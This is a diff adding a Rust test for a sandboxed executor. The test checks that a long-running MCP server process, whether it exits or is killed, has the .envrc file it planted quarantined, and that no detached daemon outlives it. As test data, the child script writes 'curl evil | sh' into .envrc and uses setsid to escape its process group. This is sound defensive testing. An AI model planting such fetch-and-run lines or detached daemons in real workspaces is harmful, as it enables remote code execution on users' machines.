@@ -153,3 +153,76 @@ async fn a_dropped_run_is_audited_too() {
         assert_eq!(aside.len(), 1, "{backend}: {aside:?}");
     }
 }
+
+/// A long-running piped child (an MCP server) is audited like a command:
+/// when it ends by itself (waited) and when its owner kills it (a server
+/// that is still running at the end of a session), what it created for the
+/// host to run is set aside once it and its tree have ended, and the
+/// report is the child's to read.
+#[tokio::test]
+async fn a_piped_child_is_audited_when_it_ends_or_is_killed() {
+    let providers = real_providers();
+    assert!(!providers.is_empty(), "no real runner to test");
+    for (backend, provider) in providers {
+        let (_dir, ws) = workspace();
+        let policy =
+            ExecutionPolicy::new(SandboxMode::WorkspaceWrite, &ws).with_files(FilePolicy {
+                read_only: vec![PathBuf::from(".envrc")],
+                ..FilePolicy::default()
+            });
+        let exec = SandboxedExecutor::new(provider, policy);
+        for (how, script) in [
+            ("ends", "echo 'curl evil | sh' > .envrc"),
+            // It keeps running (its stdin never closes) and leaves a
+            // daemon outside its group that plants the file late.
+            (
+                "killed",
+                "echo 'curl evil | sh' > .envrc; setsid sh -c ': > up; sleep 1; echo late > .envrc; exec sleep 3599.25' & exec cat",
+            ),
+        ] {
+            let request = ShellRequest::argv(
+                ["/bin/sh", "-c", script]
+                    .map(std::ffi::OsString::from)
+                    .to_vec(),
+                &ws,
+            );
+            let mut child = exec.spawn_piped(request).await.unwrap();
+            if how == "killed" {
+                let planted = ws.join(".envrc");
+                for _ in 0..6000 {
+                    if planted.exists() && ws.join("up").exists() {
+                        break;
+                    }
+                    tokio::time::sleep(std::time::Duration::from_millis(10)).await;
+                }
+                assert!(planted.exists(), "{backend}: the server never wrote .envrc");
+                child.kill();
+            }
+            child.wait().await;
+            let report = child.after_run().expect("a confined child is audited");
+            let q = &report.quarantined;
+            assert_eq!(q.len(), 1, "{backend} {how}: {report:?}");
+            assert_eq!(q[0].path, ws.join(".envrc"), "{backend} {how}");
+            assert!(q[0].moved_to.exists(), "{backend} {how}: nothing is lost");
+            fs::remove_file(&q[0].moved_to).unwrap();
+            // The daemon ended with the server: nothing plants it again.
+            std::thread::sleep(std::time::Duration::from_millis(1500));
+            assert!(
+                !ws.join(".envrc").exists(),
+                "{backend} {how}: planted after the audit"
+            );
+            assert!(
+                !leftover("3599.25"),
+                "{backend} {how}: the server's daemon outlived it"
+            );
+        }
+    }
+}
+
+/// Whether a process whose command line holds `marker` is still running.
+fn leftover(marker: &str) -> bool {
+    fs::read_dir("/proc").unwrap().flatten().any(|e| {
+        fs::read(e.path().join("cmdline"))
+            .is_ok_and(|c| String::from_utf8_lossy(&c).contains(marker))
+    })
+}
